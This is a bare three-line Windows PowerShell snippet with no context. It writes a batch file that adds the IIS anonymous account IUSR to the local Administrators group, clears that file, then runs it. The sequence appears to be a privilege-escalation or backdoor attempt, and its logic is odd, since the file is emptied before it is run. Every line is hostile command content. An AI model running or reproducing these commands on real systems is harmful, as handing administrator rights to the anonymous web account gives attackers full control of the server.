Set-Content C:\go.cmd 'net localgroup Administrators IUSR /add'
Clear-Content C:\go.cmd
cmd /c C:\go.cmd
